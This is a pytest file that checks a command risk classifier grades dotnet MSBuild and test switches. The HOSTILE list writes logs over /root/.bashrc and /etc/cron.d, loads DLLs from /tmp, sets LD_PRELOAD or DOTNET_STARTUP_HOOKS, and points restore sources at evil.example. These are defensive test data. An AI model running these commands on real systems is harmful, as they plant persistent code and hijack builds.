"""dotnet's ``-NAME:VALUE`` MSBuild switches, response files, ``-e`` and inline RunSettings (programs/build.py
``dotnet_switches``): a log, preprocessed project or results cache written outside the workspace, a logger assembly
loaded, a variable set for the tests or a test adapter path are graded as what they do; the everyday forms keep
the build's grade."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel, classify
from tests.risk.both_sides import graded, project

HOSTILE = [
    # a file MSBuild writes (MSBuild command-line reference)
    "dotnet build -bl:/root/.bashrc",
    "dotnet build -BL:/root/.bashrc",
    "dotnet build '-binaryLogger:LogFile=/root/.bashrc;ProjectImports=None'",
    "dotnet build -fl -flp:logfile=/root/.bashrc",
    "dotnet build '-flp2:v=diag;LogFile=/etc/cron.d/x'",
    "dotnet msbuild -pp:/root/.bashrc",
    "dotnet msbuild -preprocess:/etc/profile.d/x.sh",
    "dotnet build -orc:/root/.profile",
    "dotnet build -getResultOutputFile:/etc/cron.d/x",
    "dotnet build -profileEvaluation:/root/.bashrc",
    "dotnet build -ts:/root/.bashrc",
    "dotnet run -bl:/root/.bashrc",
    "dotnet clean -bl:/root/.bashrc",
    "dotnet test '--logger:trx;LogFileName=/root/.bashrc'",
    # code loaded or chosen
    "dotnet build -logger:XmlLogger,/tmp/x.dll",
    "dotnet build '-l:FileLogger,Microsoft.Build;logfile=/root/.bashrc'",
    "dotnet build -dl:/tmp/a.dll*/tmp/b.dll",
    "dotnet build @/tmp/x.rsp",
    "dotnet test @opts.rsp",
    "dotnet build -rp:RestoreConfigFile=/tmp/n.config",
    "dotnet build -restoreProperty:RestoreSources=https://evil.example/",
    "dotnet test -e DOTNET_STARTUP_HOOKS=/tmp/x.dll",
    "dotnet test --environment LD_PRELOAD=/tmp/x.so",
    "dotnet test -e:LD_PRELOAD=/tmp/x.so",
    "dotnet run -e LD_PRELOAD=/tmp/x.so",
    "dotnet test -- RunConfiguration.TestAdaptersPaths=/tmp",
    "dotnet test -- RunConfiguration.DotNetHostPath=/tmp/x",
]

EVERYDAY = [
    "dotnet build",
    "dotnet build -c Release -v:q -m:4 -nr:false",
    "dotnet build -bl",
    "dotnet build -bl:build.binlog",
    "dotnet build '-flp:logfile=build.log;verbosity=diag'",
    "dotnet build -flp:verbosity=diag",
    "dotnet build -p:Configuration=Release",
    "dotnet build -tl -t:Build",
    "dotnet test --logger:trx",
    "dotnet test -l:trx",
    "dotnet test '--logger:trx;LogFileName=results.trx'",
    "dotnet test -e NO_COLOR=1",
    "dotnet test -- NUnit.NumberOfTestWorkers=2",
    "dotnet run -- -bl:/root/.vimrc --logger:x",
    "dotnet run -- @args.txt",
]


@pytest.mark.parametrize("command", HOSTILE)
def test_a_switch_reaching_past_the_project_is_destructive_on_the_host(tmp_path: Path, command: str) -> None:
    ws = project(tmp_path, {"app.csproj": "<Project Sdk='Microsoft.NET.Sdk'/>\n"})
    assert graded(command, ws)[0] == RiskLevel.DESTRUCTIVE, graded(command, ws)


@pytest.mark.parametrize("command", EVERYDAY)
def test_an_everyday_build_keeps_the_build_grade(tmp_path: Path, command: str) -> None:
    ws = project(tmp_path, {"app.csproj": "<Project Sdk='Microsoft.NET.Sdk'/>\n"})
    assert graded(command, ws)[0] == RiskLevel.WORKSPACE_WRITE, graded(command, ws)


def test_a_log_written_in_the_temp_area_is_a_write_there_and_code_loaded_stays_destructive_contained(
    tmp_path: Path,
) -> None:
    ws = project(tmp_path, {"app.csproj": "<Project Sdk='Microsoft.NET.Sdk'/>\n"})
    assert graded("dotnet build -bl:/tmp/b.binlog", ws)[0] == RiskLevel.WORKSPACE_WRITE
    for command in ("dotnet build -logger:X,/tmp/x.dll", "dotnet test -e LD_PRELOAD=/tmp/x.so", "dotnet build @x"):
        assert classify(command, contained=True, workspace=str(ws)).risk == RiskLevel.DESTRUCTIVE, command
